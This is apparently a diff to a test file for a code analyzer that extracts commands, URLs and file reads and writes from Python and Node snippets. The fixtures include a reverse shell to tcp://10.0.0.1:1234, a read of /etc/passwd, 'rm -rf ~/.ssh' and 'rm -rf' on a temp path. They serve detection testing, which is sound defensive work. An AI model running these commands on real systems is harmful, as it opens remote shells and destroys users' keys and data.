@@ -234,6 +234,12 @@ CASES: list[tuple[str, str, dict[str, Any]]] = [
                "os.dup2(s.fileno(), 0); subprocess.call(['/bin/sh', '-i'])",
      {"commands": ("/bin/sh -i",), "urls": ("tcp://10.0.0.1:1234",), "risky": (FETCHES, SOCKET)}),
     ("python", "import runpy; runpy.run_path('/tmp/x.py')", {"reads": ("/tmp/x.py",)}),
+    ("python", "import os, shlex; os.system('cat ' + shlex.quote('/tmp/a b'))",
+     {"commands": ("cat '/tmp/a b'",)}),
+    ("python", "import os, shlex; os.system(shlex.join(['rm', '-rf', '/tmp/a b']))",
+     {"commands": ("rm -rf '/tmp/a b'",)}),
+    ("python", "import sys; open('/etc/hosts', sys.argv[1])",
+     {"reads": ("/etc/hosts",), "writes": ("/etc/hosts",)}),
     ("python", "SOURCE = 'file:///etc/passwd'", {"reads": ("/etc/passwd",)}),
     # node
     ("node", "const cp = require('child_process'); cp.execSync('rm -rf ~/.ssh')",
